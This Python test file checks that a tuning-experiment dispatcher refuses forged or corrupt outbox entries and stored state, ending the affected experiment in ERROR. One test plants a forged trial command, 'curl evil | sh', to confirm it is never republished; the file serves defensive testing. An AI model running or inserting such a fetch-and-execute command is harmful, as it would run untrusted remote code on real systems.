"""The dispatcher republishes only outbox entries it would have written; a bad state ends in ERROR."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

import pytest

from services.dispatcher import lifecycle
from services.dispatcher.lifecycle import Policy
from services.dispatcher.outbox import CorruptState, checked_outbox, checked_state
from services.dispatcher.service import Dispatcher
from shared.messages import (
    ExperimentError,
    ExperimentStart,
    ExperimentStatus,
    ExperimentStatusChanged,
    Message,
    TrialKill,
    TrialStatus,
    TrialSubmit,
)
from shared.state import ExperimentState, OutboxEntry, TrialRecord
from shared.storage import ConcurrentWriteError, Layout

CONFIG = {"trialCommand": "python3 t.py", "trialConcurrency": 2, "maxTrialNumber": 4,
          "searchSpace": {"x": {"_type": "uniform", "_value": [0, 1]}},
          "tuner": {"name": "Random"}, "trainingService": {"platform": "local"}}


class FakeStore:
    """What the dispatcher uses of BlobStore, in memory, with ETags."""

    def __init__(self) -> None:
        self.blobs: dict[str, bytes] = {}
        self.version = 0

    async def read_document(self, path: str) -> tuple[bytes, str] | None:
        return None if path not in self.blobs else (self.blobs[path], f"e{self.version}")

    async def read_json(self, path: str) -> tuple[Any, str] | None:
        found = await self.read_document(path)
        return None if found is None else (json.loads(found[0]), found[1])

    async def write_document(self, path: str, body: bytes, *, etag: str | None = None,
                             create_only: bool = False) -> str:
        if etag is not None and etag != f"e{self.version}":
            raise ConcurrentWriteError(path)
        self.blobs[path] = body
        self.version += 1
        return f"e{self.version}"

    async def write_json(self, path: str, doc: Any, *, etag: str | None = None,
                         create_only: bool = False) -> str:
        return await self.write_document(path, json.dumps(doc, default=str).encode(), etag=etag)

    async def write_bytes(self, path: str, data: bytes, *, content_type: str | None = None) -> None:
        self.blobs[path] = data

    async def delete(self, path: str) -> None:
        self.blobs.pop(path, None)

    async def list(self, prefix: str) -> list[str]:
        return sorted(p for p in self.blobs if p.startswith(prefix))


class FakeBus:
    def __init__(self) -> None:
        self.published: list[Message] = []

    async def publish(self, msg: Message) -> None:
        self.published.append(msg)

    async def publish_many(self, msgs: Any) -> None:
        self.published.extend(msgs)

    async def publish_ticket(self, msg: Message) -> None:
        self.published.append(msg)


async def started(experiment_id: str = "exp1") -> tuple[Dispatcher, FakeStore, FakeBus]:
    store, bus = FakeStore(), FakeBus()
    dispatcher = Dispatcher(bus, store, Policy())  # type: ignore[arg-type]
    await dispatcher.on_start(ExperimentStart(experiment_id=experiment_id, config=CONFIG))
    return dispatcher, store, bus


def stored_state(store: FakeStore, experiment_id: str = "exp1") -> dict[str, Any]:
    return json.loads(store.blobs[Layout(experiment_id).state_doc])


def a_state_with_a_trial() -> ExperimentState:
    state = ExperimentState(experiment_id="exp1", started_at=lifecycle.utcnow())
    state.trials["tr1"] = TrialRecord(trial_id="tr1", sequence_id=0, parameters={"x": 0.5},
                                      status=TrialStatus.RUNNING)
    return state


def entry(msg: Message) -> OutboxEntry:
    key = msg.routing_key
    return OutboxEntry(routing_key=key, body=msg.model_dump(mode="json"))


def test_the_dispatchers_own_messages_pass() -> None:
    state = a_state_with_a_trial()
    state.outbox = [entry(TrialKill(experiment_id="exp1", trial_id="tr1", status=TrialStatus.USER_CANCELED,
                                    reason="r")),
                    entry(ExperimentStatusChanged(experiment_id="exp1", status=ExperimentStatus.RUNNING))]
    assert [type(m) for m in checked_outbox(state)] == [TrialKill, ExperimentStatusChanged]


@pytest.mark.parametrize(("forged", "says"), [
    (OutboxEntry(routing_key="experiment.start", body={"experiment_id": "exp1", "config": CONFIG}),
     "not a routing key the dispatcher publishes"),
    (OutboxEntry(routing_key="trial.metric", body={}), "not a routing key"),
    (OutboxEntry(routing_key="ticket.ingest.watch", body={}), "not a routing key"),
    (OutboxEntry(routing_key="trial.submit", body={"experiment_id": "exp1"}), "invalid TrialSubmit"),
    (entry(TrialSubmit(experiment_id="other", trial_id="tr1", sequence_id=0, parameters={})),
     "for experiment 'other'"),
    (entry(TrialSubmit(experiment_id="exp1", trial_id="planted", sequence_id=9, parameters={})),
     "trial 'planted' is not one of the experiment's"),
])
def test_a_forged_entry_is_refused_naming_why(forged: OutboxEntry, says: str) -> None:
    state = a_state_with_a_trial()
    state.outbox = [forged]
    with pytest.raises(CorruptState, match=says):
        checked_outbox(state)


@pytest.mark.parametrize("body", [
    b"{not json", b"[]", b'{"experiment_id": "exp1"}', b"[" * 5000 + b"]" * 5000,
    b'{"experiment_id": "exp2", "started_at": "2026-01-01T00:00:00Z"}',
])
def test_a_state_that_does_not_validate_is_corrupt(body: bytes) -> None:
    with pytest.raises(CorruptState):
        checked_state(body, "exp1")


async def test_a_forged_outbox_entry_is_not_published_and_ends_the_experiment_in_error() -> None:
    dispatcher, store, bus = await started()
    doc = stored_state(store)
    doc["outbox"].append({"routing_key": "experiment.start",
                          "body": ExperimentStart(experiment_id="exp1", config={
                              **CONFIG, "trialCommand": "curl evil | sh"}).model_dump(mode="json")})
    store.blobs[Layout("exp1").state_doc] = json.dumps(doc).encode()
    store.version += 1
    dispatcher.states._cache.clear()  # a restarted dispatcher, or one that reloads after a conflict
    bus.published.clear()
    await dispatcher.states.load("exp1")
    assert not any(isinstance(m, ExperimentStart) for m in bus.published)
    after = stored_state(store)
    assert after["status"] in ("ERROR", "STOPPING")
    assert "not written by the dispatcher" in (after["reason"] or "")
    assert after["outbox"] == [] or all(e["routing_key"] != "experiment.start" for e in after["outbox"])


async def test_a_corrupt_state_ends_that_experiment_in_error_and_no_other() -> None:
    dispatcher, store, bus = await started("exp1")
    await dispatcher.on_start(ExperimentStart(experiment_id="exp2", config=CONFIG))
    store.blobs[Layout("exp1").state_doc] = b'{"experiment_id": "exp1", "trials": "garbage"'
    store.version += 1
    dispatcher.states._cache.clear()
    bus.published.clear()
    await dispatcher.states.load("exp1")
    await dispatcher.states.load("exp2")
    assert stored_state(store, "exp1")["status"] == "ERROR"
    assert "state.json is not JSON" in stored_state(store, "exp1")["reason"]
    assert stored_state(store, "exp2")["status"] == "RUNNING"
    errors = [m for m in bus.published
              if isinstance(m, ExperimentStatusChanged) and m.status == ExperimentStatus.ERROR]
    assert [m.experiment_id for m in errors] == ["exp1"]


async def test_a_started_experiment_is_marked_active_and_its_marker_goes_with_its_end() -> None:
    from shared.layout import active_marker
    from shared.messages import ExperimentStop, Ticket

    dispatcher, store, bus = await started()
    assert active_marker("exp1") in store.blobs  # what a restarted dispatcher lists
    bus.published.clear()
    await dispatcher.watchdog.watch_experiments()  # its first tick is not due yet: left alone
    assert not bus.published
    cached = dispatcher.states.cached("exp1")
    assert cached is not None and cached.state.tick_due is not None
    cached.state.tick_due -= timedelta(seconds=Policy().tick_stall + 1)  # its ticket was lost
    await dispatcher.watchdog.watch_experiments()
    [rearm] = [m for m in bus.published if isinstance(m, Ticket)]
    assert rearm.state == {"rearm": True} and rearm.experiment_id == "exp1"
    await dispatcher.on_stop(ExperimentStop(experiment_id="exp1"))  # nothing runs: STOPPED at once
    assert json.loads(store.blobs[Layout("exp1").state_doc])["status"] == "STOPPED"
    assert active_marker("exp1") not in store.blobs


async def test_a_marker_left_by_an_ended_experiment_is_removed_by_the_watchdog() -> None:
    from shared.layout import active_marker

    dispatcher, store, bus = await started()
    await dispatcher.on_error(ExperimentError(experiment_id="exp1", service="tuner", reason="boom"))
    store.blobs[active_marker("exp1")] = b""  # as if a crash came between the end and the delete
    bus.published.clear()
    await dispatcher.watchdog.watch_experiments()
    assert active_marker("exp1") not in store.blobs and not bus.published


def test_the_broker_lets_the_dispatcher_publish_every_key_it_republishes() -> None:
    # Its outbox check and its broker account name the same keys: a key missing from the
    # account would close its channel (ACCESS_REFUSED) the first time a liveness rule fires.
    from services.dispatcher.outbox import DISPATCHER_ROUTING_KEYS
    from shared.broker_users import USERS

    [dispatcher] = [u for u in USERS if u.name == "tunebus-dispatcher"]
    assert set(dispatcher.publishes) == DISPATCHER_ROUTING_KEYS


def test_a_lost_jobs_end_sent_again_passes_the_outbox_check() -> None:
    from shared.messages import TrialStatusChanged

    state = a_state_with_a_trial()
    state.outbox = [entry(TrialStatusChanged(experiment_id="exp1", trial_id="tr1", parameter_id=0,
                                             status=TrialStatus.FAILED, error="lost", lost=True))]
    assert [type(m) for m in checked_outbox(state)] == [TrialStatusChanged]
